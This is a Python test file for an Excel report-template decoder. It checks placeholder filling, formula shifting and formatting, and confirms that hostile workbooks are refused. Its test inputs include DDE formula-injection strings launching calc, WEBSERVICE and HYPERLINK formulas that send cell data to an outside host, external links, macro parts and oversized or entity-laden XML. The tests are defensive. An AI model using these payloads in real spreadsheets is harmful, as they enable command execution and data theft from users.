"""An office's own workbook: what is found in it, what goes in, and what stays as it was."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from ocop.db.errors import Refused
from ocop.reports import decoder
from ocop.reports.rules.placeholders import Filling

KNOWN = {"ky_bao_cao", "san_pham_tong", "noi_bao_cao"} | {
    f"hang.san_pham.{column}" for column in ("stt", "ten", "co_so", "so_luong")
}
ROWS = [
    {"stt": 1, "ten": "Mắm tép", "co_so": "HTX Mẫu", "so_luong": 5},
    {"stt": 2, "ten": "Chè xanh", "co_so": "HTX Mẫu", "so_luong": 7},
    {"stt": 3, "ten": "Trà lá", "co_so": "Hộ Mẫu", "so_luong": 11},
]


def filled(content: bytes, rows: list[dict[str, Any]] = ROWS, **values: Any) -> openpyxl.Workbook:
    given = {"ky_bao_cao": "Quý III/2026", "san_pham_tong": 3, "noi_bao_cao": "Xã Mẫu", **values}
    return openpyxl.load_workbook(io.BytesIO(decoder.fill(content, Filling(given, {"san_pham": rows}))))


def an_offices_book(change: Callable[[Any], None] | None = None) -> bytes:
    """A sheet as offices make them: merged title, a table with a total and a merged line below, page set up."""
    book = openpyxl.Workbook()
    page = book.active
    page.title = "Biểu 01"
    thin = Side(style="thin", color="000000")
    page["A1"] = "BIỂU TỔNG HỢP {{ky_bao_cao}} CỦA {{noi_bao_cao}}"
    page["A1"].font = Font(name="Times New Roman", size=15, bold=True, color="AA0000")
    page["A1"].alignment = Alignment(horizontal="center", wrap_text=True)
    page.merge_cells("A1:E1")
    page["A2"], page["B2"] = "Tổng số sản phẩm:", "{{san_pham_tong}}"
    page["B2"].number_format = "#,##0"
    for column, words in zip("ABCDE", ("TT", "Tên", "Cơ sở", "", "SL"), strict=True):
        page[f"{column}4"] = words
        page[f"{column}4"].fill = PatternFill("solid", fgColor="D9EAD3")
    page.merge_cells("C4:D4")
    for column, name in (("A", "stt"), ("B", "ten"), ("C", "co_so"), ("E", "so_luong")):
        page[f"{column}5"] = f"{{{{hang.san_pham.{name}}}}}"
        page[f"{column}5"].font = Font(italic=True, size=13)
        page[f"{column}5"].border = Border(left=thin, right=thin, top=thin, bottom=thin)
    page.merge_cells("C5:D5")
    page["F5"] = "=E5*2"
    page["A6"], page["E6"] = "Cộng", "=SUM(E5:E5)"
    page.merge_cells("A6:D6")
    page["A8"] = "Người lập biểu"
    page.merge_cells("A8:E8")
    page.row_dimensions[5].height, page.row_dimensions[8].height = 21, 48
    page.column_dimensions["B"].width = 33
    page["H1"] = "=E6+1"
    page.print_area, page.print_title_rows = "A1:E8", "4:4"
    page.page_setup.orientation, page.page_setup.paperSize = "landscape", 9
    page.page_margins.left = 1.25
    page.oddFooter.center.text = "Trang &P"
    page.freeze_panes = "A5"
    choice = DataValidation(type="list", formula1='"có,không"')
    choice.add("E8")
    page.add_data_validation(choice)
    if change:
        change(page)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_a_look_finds_every_placeholder_and_nothing_wrong() -> None:
    found = decoder.look(an_offices_book(), KNOWN)

    assert set(found.names) == KNOWN
    assert found.wrong == ()
    assert not found.drops_shapes


def test_numbers_go_in_as_numbers_and_words_into_their_sentence() -> None:
    page = filled(an_offices_book())["Biểu 01"]

    assert page["A1"].value == "BIỂU TỔNG HỢP Quý III/2026 CỦA Xã Mẫu"
    assert (page["B2"].value, page["B2"].number_format) == (3, "#,##0")


def test_a_row_is_repeated_for_each_line_and_all_below_moves_down() -> None:
    page = filled(an_offices_book())["Biểu 01"]

    assert [[page.cell(row, column).value for column in (1, 2, 3, 5)] for row in (5, 6, 7)] == [
        [1, "Mắm tép", "HTX Mẫu", 5],
        [2, "Chè xanh", "HTX Mẫu", 7],
        [3, "Trà lá", "Hộ Mẫu", 11],
    ]
    assert (page["A8"].value, page["A10"].value) == ("Cộng", "Người lập biểu")


def test_formulas_stay_formulas_and_follow_their_cells() -> None:
    page = filled(an_offices_book())["Biểu 01"]

    assert page["E8"].value == "=SUM(E5:E7)"
    assert [page[f"F{row}"].value for row in (5, 6, 7)] == ["=E5*2", "=E6*2", "=E7*2"]
    assert page["H1"].value == "=E8+1"


def test_merged_cells_styles_widths_and_page_settings_are_the_offices() -> None:
    page = filled(an_offices_book())["Biểu 01"]

    assert {str(merged) for merged in page.merged_cells.ranges} == {
        "A1:E1", "C4:D4", "C5:D5", "C6:D6", "C7:D7", "A8:D8", "A10:E10",
    }  # fmt: skip
    assert (page["A1"].font.name, page["A1"].font.size, page["A1"].font.color.rgb) == (
        "Times New Roman",
        15,
        "00AA0000",
    )
    assert page["B4"].fill.fgColor.rgb == "00D9EAD3"
    assert [page[f"B{row}"].font.italic for row in (5, 6, 7)] == [True, True, True]
    assert [page[f"E{row}"].border.bottom.style for row in (5, 6, 7)] == ["thin"] * 3
    assert [page.row_dimensions[row].height for row in (5, 6, 7, 10)] == [21, 21, 21, 48]
    assert page.column_dimensions["B"].width == 33
    assert page.print_area == "'Biểu 01'!$A$1:$E$10"
    assert page.print_title_rows == "$4:$4"
    assert (page.page_setup.orientation, page.page_margins.left) == ("landscape", 1.25)
    assert (page.oddFooter.center.text, page.freeze_panes) == ("Trang &P", "A5")
    assert str(page.data_validations.dataValidation[0].sqref) == "E10"


def test_an_empty_list_leaves_its_row_empty() -> None:
    page = filled(an_offices_book(), rows=[])["Biểu 01"]

    assert [page.cell(5, column).value for column in (1, 2, 3, 5)] == [None] * 4
    assert page["A6"].value == "Cộng"


def test_what_is_not_known_is_told_by_cell() -> None:
    def misspelt(page: Any) -> None:
        page["C2"] = "{{san_pham_tongg}} và {{xa_la}}"

    found = decoder.look(an_offices_book(misspelt), KNOWN)

    assert [(one.code, one.cell, one.text) for one in found.wrong] == [
        ("template_unknown", "Biểu 01!C2", "san_pham_tongg"),
        ("template_unknown", "Biểu 01!C2", "xa_la"),
    ]


def test_a_repeated_row_has_one_list_and_is_not_merged_with_another() -> None:
    def two_lists(page: Any) -> None:
        page["G5"] = "{{hang.giay.ten}}"

    def tall(page: Any) -> None:
        page.merge_cells("G4:G5")

    mixed = decoder.look(an_offices_book(two_lists), KNOWN | {"hang.giay.ten"}).wrong
    merged = decoder.look(an_offices_book(tall), KNOWN).wrong

    assert [(one.code, one.cell) for one in mixed] == [("template_two_lists", "Biểu 01!G5")]
    assert [one.code for one in merged] == ["template_row_merged"]


@pytest.mark.parametrize(
    "evil", ["=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", '=HYPERLINK("http://x")']
)
def test_no_text_becomes_a_formula(evil: str) -> None:
    rows = [{"stt": 1, "ten": evil, "co_so": f"{evil} x", "so_luong": 1}]

    page = filled(an_offices_book(), rows=rows, noi_bao_cao=evil, ky_bao_cao=evil)["Biểu 01"]

    own = {"F5", "E6", "H1"}
    formulas = {c.coordinate for line in page.iter_rows() for c in line if c.data_type == "f"}
    assert formulas == own
    assert page["B5"].value.startswith("'")
    assert page["C5"].value.startswith("'")


def test_a_text_that_names_a_placeholder_is_not_filled_again() -> None:
    rows = [{"stt": 1, "ten": "{{noi_bao_cao}}", "co_so": "", "so_luong": 1}]

    page = filled(an_offices_book(), rows=rows)["Biểu 01"]

    assert page["B5"].value == "{{noi_bao_cao}}"


def test_a_thousand_rows_fill_a_template() -> None:
    rows = [{"stt": n, "ten": f"Hàng {n}", "co_so": "HTX", "so_luong": 1} for n in range(1, 1_001)]

    page = filled(an_offices_book(), rows=rows)["Biểu 01"]

    assert (page["B1004"].value, page["E1005"].value) == ("Hàng 1000", "=SUM(E5:E1004)")


def zipped(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
    return out.getvalue()


def with_part(name: str, content: bytes, of: bytes | None = None) -> bytes:
    """An office's workbook with one part replaced or added."""
    with zipfile.ZipFile(io.BytesIO(of or an_offices_book())) as packed:
        parts = {entry: packed.read(entry) for entry in packed.namelist()}
    return zipped({**parts, name: content})


_DOCTYPE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>'


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "template_not_xlsx"),
        (b"PK\x03\x04 broken", "template_not_xlsx"),
        (b"\xd0\xcf\x11\xe0 an old one", "template_not_xlsx"),
        (zipped({"a.txt": b"x"}), "template_not_xlsx"),
        (with_part("xl/vbaProject.bin", b"macro"), "template_not_xlsx"),
        (with_part("xl/worksheets/sheet1.xml", b"<worksheet"), "template_not_xlsx"),
        (with_part("xl/extra.xml", _DOCTYPE), "template_not_xlsx"),
        (with_part("xl/media/a.png", b"\0" * 20_000_000), "template_too_complex"),
        (with_part("xl/extra.xml", b"<a>" + b"<b/>" * 400_000 + b"</a>"), "template_too_complex"),
        (b"\0" * 1_000_001, "template_too_big"),
    ],
    ids=range(10),
)
def test_a_hostile_or_broken_file_is_refused(content: bytes, code: str) -> None:
    with pytest.raises(Refused) as refusal:
        decoder.look(content, KNOWN)

    assert refusal.value.code == code


@pytest.mark.parametrize(
    ("formula", "code"),
    [
        ("=cmd|'/c calc'!A0", "template_formula"),
        ('="chưa đóng', "template_formula"),
        ("=[1]Sheet1!A1", "template_reaches_out"),
        ("='[so lieu.xlsx]S'!A1", "template_reaches_out"),
        ('=WEBSERVICE("http:"&"//la.vn/"&B2)', "template_reaches_out"),
        ('=HYPERLINK("https://la.vn/?"&B2,"bấm")', "template_reaches_out"),
    ],
)
def test_a_formula_that_reaches_out_or_cannot_be_read_keeps_the_template_out(formula: str, code: str) -> None:
    def planted(page: Any) -> None:
        page["A10"] = formula

    found = decoder.look(an_offices_book(planted), KNOWN)

    assert [(one.code, one.cell) for one in found.wrong] == [(code, "Biểu 01!A10")]


def test_a_name_that_reaches_out_keeps_the_template_out() -> None:
    def planted(page: Any) -> None:
        page.parent.defined_names["Lay"] = DefinedName("Lay", attr_text="[1]Sheet1!$A$1")

    found = decoder.look(an_offices_book(planted), KNOWN)

    assert [(one.code, one.cell) for one in found.wrong] == [("template_reaches_out", "Lay")]


@pytest.mark.parametrize(
    "formula", ['=IF(B2>0,B2&" | còn","")', "=SUM(Bang1[SL])", "=VLOOKUP(A1,B1:C9,2,FALSE)"]
)
def test_formulas_of_an_ordinary_office_are_left_alone(formula: str) -> None:
    def own(page: Any) -> None:
        page["A10"] = formula

    assert decoder.look(an_offices_book(own), KNOWN).wrong == ()


def test_a_cell_in_the_last_corner_does_not_build_the_whole_sheet() -> None:
    def far(page: Any) -> None:
        page["XFD1048576"] = "x"

    with pytest.raises(Refused) as refusal:
        decoder.look(an_offices_book(far), KNOWN)

    assert refusal.value.code == "template_too_complex"


def test_plain_sheets_go_behind_with_a_name_of_their_own() -> None:
    sheet = decoder.Sheet("Biểu 01", ["Tên", "Số"], [["=1+1", 7]])

    book = openpyxl.load_workbook(
        io.BytesIO(decoder.fill(an_offices_book(), Filling({}, {"san_pham": []}), [sheet]))
    )

    assert book.sheetnames == ["Biểu 01", "Biểu 01 2"]
    assert [[cell.value for cell in line] for line in book["Biểu 01 2"].iter_rows()] == [
        ["Tên", "Số"],
        ["'=1+1", 7],
    ]
